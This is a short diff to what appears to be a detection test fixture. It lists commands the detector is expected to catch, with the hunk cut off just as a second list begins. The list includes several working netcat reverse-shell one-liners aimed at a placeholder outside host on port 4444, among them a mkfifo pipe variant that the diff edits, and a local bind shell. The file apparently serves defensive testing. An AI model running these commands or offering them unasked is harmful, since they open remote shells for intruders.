@@ -13,7 +13,7 @@ PORT = 4444
 CAUGHT = (
     ("reverse_shell", f"timeout 5 nc {engines.OUTSIDE} {PORT} -e /bin/sh"),
     ("reverse_shell", f"cp /bin/busybox /tmp/sh; timeout 5 nc {engines.OUTSIDE} {PORT} -e /tmp/sh -i"),
-    ("reverse_shell", f"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 5 nc {engines.OUTSIDE} {PORT} >/tmp/f"),
+    ("reverse_shell", f"mkfifo /tmp/f; sh -i </tmp/f 2>&1 | timeout 5 nc {engines.OUTSIDE} {PORT} >/tmp/f"),
     ("bind_shell", "(sleep 0.5; timeout 2 nc 127.0.0.1 4445 </dev/null >/dev/null) & timeout 5 nc -l -p 4445 -e /bin/sh"),
 )
 QUIET = (
